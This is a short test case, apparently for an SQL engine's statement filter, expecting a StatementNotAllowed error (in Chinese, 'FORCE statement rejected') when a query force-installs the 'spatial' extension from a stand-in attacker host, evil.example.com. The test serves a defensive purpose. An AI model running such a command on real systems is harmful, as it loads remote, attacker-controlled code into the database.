-- expect: StatementNotAllowed
-- message: 已拒绝 FORCE 语句
force install spatial from 'http://evil.example.com'
